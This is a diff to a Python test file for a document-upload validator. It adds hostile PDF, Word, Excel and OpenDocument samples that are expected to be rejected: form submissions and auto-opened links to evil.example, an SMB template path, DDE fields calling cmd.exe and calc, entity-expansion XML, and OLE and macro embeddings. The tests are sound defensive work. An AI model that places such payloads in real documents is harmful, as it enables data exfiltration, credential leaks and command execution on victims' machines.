@@ -6,6 +6,8 @@ import zipfile
 from dataclasses import dataclass
 from io import BytesIO
 
+import pikepdf
+
 from tests.files import samples
 
 HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
@@ -79,7 +81,42 @@ def loading(kind, target):
 
 
 def with_action(action):
-    return samples.PDF.replace(b"<</Type/Catalog", b"<</Type/Catalog/OpenAction<<" + action + b">>")
+    return samples.pdf(b"/OpenAction<<" + action + b">>")
+
+
+def linked(target):
+    """A PDF with a link, in a compressed object stream that its table of places leads to, encrypted with an empty password."""
+    made, file = pikepdf.new(), BytesIO()
+    made.add_blank_page()
+    action = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(target)))
+    made.Root.Outlines = pikepdf.Dictionary(A=action)
+    made.save(file, object_stream_mode=pikepdf.ObjectStreamMode.generate, encryption=pikepdf.Encryption(owner="x", user=""))
+    return file.getvalue()
+
+
+def word(*extra, body=b""):
+    return samples.open_xml(extra=[("word/footer1.xml", b"<w:f xmlns:w='w'>" + body + b"</w:f>"), *extra])
+
+
+def field(*runs):
+    """A field of Word whose instruction is spread over these runs."""
+    marks = {name: b"<w:fldChar w:fldCharType='" + name + b"'/>" for name in (b"begin", b"end")}
+    return word(body=marks[b"begin"] + b"".join(b"<w:instrText>" + run + b"</w:instrText>" for run in runs) + marks[b"end"])
+
+
+def open_text(content):
+    return samples.archive([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", content)])
+
+
+LAUGHS = '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><d>&b;</d>'
+COMPOUND = samples.compound()
+WORKBOOK = "xl/workbook.xml"
+MACRO_SHEET = samples.open_xml(WORKBOOK, extra=[("xl/vbaProject.bin", b"x")])
+NESTED = word(("word/embeddings/b.docx", samples.open_xml()))
+
+
+def excel_link(content):
+    return samples.open_xml(WORKBOOK, extra=[("xl/externalLinks/externalLink1.xml", b"<externalLink>" + content + b"</externalLink>")])
 
 
 ENDS = "are not accepted"
@@ -144,6 +181,38 @@ CASES = [
     Hostile("PDF whose objects explode", "report.pdf", samples.object_stream(b"\0" * 101_000_000), "unpack to more than"),
     Hostile("PDF with a file in it", "report.pdf", with_action(b"/Names<</EmbeddedFiles 9 0 R>>"), "other files are packed"),
     Hostile("PDF with a file in it, compressed", "report.pdf", samples.object_stream(b"1 0 <</Type/EmbeddedFile>>"), "other files"),
+    Hostile("PDF with a script by its key alone", "report.pdf", samples.pdf(b"/X<</JS(app.alert(1))>>"), "scripts or programs (/JS)"),
+    Hostile("PDF with a form that sends", "report.pdf", with_action(b"/S/Submit#46orm/F(https://evil.example)"), "(/SubmitForm)"),
+    Hostile("PDF that loads a form's data", "report.pdf", with_action(b"/S/ImportData/F(a.fdf)"), "(/ImportData)"),
+    Hostile("PDF with an XFA form", "report.pdf", samples.pdf(b"/AcroForm<</Fields[]/XFA(<x/>)>>"), "an XFA form (/XFA)"),
+    Hostile("PDF with a film", "report.pdf", samples.pdf(b"/X<</Subtype/Rich#4dedia>>"), "(/RichMedia"),
+    Hostile("PDF with a script as a link", "report.pdf", linked(" java\nscript:alert(1)"), "scripts"),
+    Hostile("PDF with a link to a network path", "report.pdf", linked("file://evil.example/a"), "another machine"),
+    Hostile("PDF that opens an address by itself", "report.pdf", with_action(b"/S/URI/URI(https://evil.example)"), "by itself"),
+    Hostile("PDF with a password", "report.pdf", samples.PDF.replace(b"/Root", b"/Encrypt<</Filter/Standard>>/Root"), "encrypted|damaged"),
+    Hostile("Word with an OLE object", "form.docx", word(("word/embeddings/oleObject1.bin", COMPOUND)), "embeddings/oleObject1.bin"),
+    Hostile("Word with an OLE object called a picture", "form.docx", word(("word/media/image1.png", COMPOUND)), "OLE: word/media"),
+    Hostile("Word with a relation to an OLE object", "form.docx", loading("oleObject", "a.bin"), "OLE: a.bin"),
+    Hostile("Word with entities", "form.docx", word(("word/x.xml", LAUGHS.encode())), "document type or entities in word/x.xml"),
+    Hostile("Word with entities in UTF-16", "form.docx", word(("word/x.xml", LAUGHS.encode("utf-16"))), "document type or entities"),
+    Hostile("Excel with entities in relations", "table.xlsx", samples.open_xml(WORKBOOK, extra=[("a.rels", LAUGHS.encode())]), "entities"),
+    Hostile("OpenDocument with entities", "form.odt", open_text(LAUGHS.encode()), "document type or entities"),
+    Hostile("Word that loads by an address in numbers", "form.docx", loading("image", "&#104;ttp://evil.example/a"), "another machine"),
+    Hostile("Word that loads, named like a link", "form.docx", loading("image", "https://evil.example/hyperlink"), "another machine"),
+    Hostile("Word that loads by SMB", "form.docx", loading("attachedTemplate", r"file:///\\evil.example\t.dotm"), "another machine"),
+    Hostile("Word with a script as a link", "form.docx", loading("hyperlink", "javascript:alert(1)"), "macros"),
+    Hostile("Word with DDE", "form.docx", field(b"DDEAUTO c:\\cmd.exe"), "DDE: field DDEAUTO"),
+    Hostile("Word with DDE over several runs", "form.docx", field(b" D", b"D", b"E c:\\cmd.exe"), "DDE: field DDE"),
+    Hostile("Word with DDE in one element", "form.docx", word(body=b"<w:fldSimple w:instr='DDE a b'/>"), "DDE: field DDE"),
+    Hostile("Word with a field that loads", "form.docx", field(b'INCLUDEPICTURE "https://evil.example/a.png"'), "another machine"),
+    Hostile("Excel with DDE", "table.xlsx", excel_link(b"<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"), "DDE: cmd"),
+    Hostile("document with macros in a document", "form.docx", word(("word/embeddings/a.xlsx", MACRO_SHEET)), "macros"),
+    Hostile("document in a document in a document", "form.docx", word(("word/embeddings/a.docx", NESTED)), "within it"),
+    Hostile("OpenDocument with DDE", "form.odt", open_text(b"<x xmlns:t='t' t:formula='of:=DDE(1)'/>"), "DDE"),
+    Hostile("OpenDocument with an object", "form.odt", open_text(b"<d:object-ole xmlns:d='d'/>"), "OLE"),
+    Hostile("OpenDocument that loads a picture", "form.odt", open_text(b"<d:image xmlns:d='d' d:href='http://evil/'/>"), "another machine"),
+    Hostile("OpenDocument that runs at an event", "form.odt", open_text(b"<s:event-listener xmlns:s='s'/>"), "macros"),
+    Hostile("old Word with a file packed in", "form.doc", samples.compound(extra="Ole10Native".encode("utf-16-le")), "OLE"),
     Hostile("PDF with HTML in it", "report.pdf", samples.PDF.replace(b"xref", b"%" + HTML + b"\nxref", 1), MARKUP),
     Hostile("PDF with an archive behind it", "report.pdf", samples.PDF + ZIP, ATTACHED),
     Hostile("PDF that is an archive too", "report.pdf", zip_within_pdf(), HIDDEN),
